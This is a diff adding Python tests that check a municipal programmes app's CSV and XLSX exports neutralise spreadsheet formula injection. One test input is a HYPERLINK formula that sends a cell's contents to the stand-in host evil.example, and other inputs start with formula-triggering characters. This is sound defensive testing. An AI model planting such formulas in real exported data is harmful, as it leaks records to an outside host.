@@ -368,3 +368,46 @@ def test_a_commission_member_cannot_open_or_export_the_application_register(ambr
         assert "გაბუნია" not in response.content.decode(), url
     menu = client.get("/programmes/catalogue/").content.decode()
     assert 'href="/programmes/"' not in menu, "the register is not offered in the menu"
+
+
+EVIL_NAME = '=HYPERLINK("http://evil.example/?"&H2,"x")'
+
+
+def test_a_name_that_looks_like_a_formula_is_exported_as_plain_text(ambrolauri, fire, make_application,
+                                                                    make_person, head):  # fmt: skip
+    application = make_application(fire, person=make_person(first_name=EVIL_NAME, last_name="@SUM(1)"))
+    services.application_decide(application=application, decided_by=head, approved=True, amount=Decimal(1500),
+                                decided_on=DAY)  # fmt: skip
+    client = client_for(ambrolauri, "head")
+
+    response = client.get("/programmes/applications/export.csv")
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
+    assert rows[1][6] == "'" + EVIL_NAME + " @SUM(1)", "a spreadsheet shows the text instead of running it"
+    assert rows[1][9] == "1500.00"
+
+    response = client.get("/programmes/applications/export.xlsx")
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    name = sheet.cell(2, 7)
+    assert name.data_type == "s" and name.value == "'" + EVIL_NAME + " @SUM(1)"
+    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row), "no formula at all"
+    amount = sheet.cell(2, 10)
+    assert amount.data_type == "n" and amount.value == 1500, "numbers stay numbers"
+
+
+@pytest.mark.parametrize("prefix", ["+", "-", "@", "\t", "\r"])
+def test_a_service_name_that_could_start_a_formula_is_neutralised_in_the_budget_export(
+    ambrolauri, head, programme, prefix
+):
+    service = services.service_create(created_by=head, programme=programme, code="odd", name_ka=f"{prefix}1+1",
+                                      kind="service")  # fmt: skip
+    services.budget_line_set(set_by=head, service=service, planned=Decimal(100))
+    client = client_for(ambrolauri, "head")
+    text = b"".join(client.get("/programmes/budget/export.csv?year=2025").streaming_content).decode(
+        "utf-8-sig"
+    )
+    row = next(r for r in csv.reader(io.StringIO(text)) if r and r[1] == "odd")
+    assert row[2] == f"'{prefix}1+1" and row[3] == "100.00"
+    sheet = load_workbook(io.BytesIO(client.get("/programmes/budget/export.xlsx?year=2025").content)).active
+    cells = next(r for r in sheet.iter_rows() if r[1].value == "odd")
+    # (XML reads a stored carriage return back as a line feed, hence only the apostrophe is compared)
+    assert cells[2].value.startswith("'") and cells[2].data_type == "s" and cells[3].value == 100
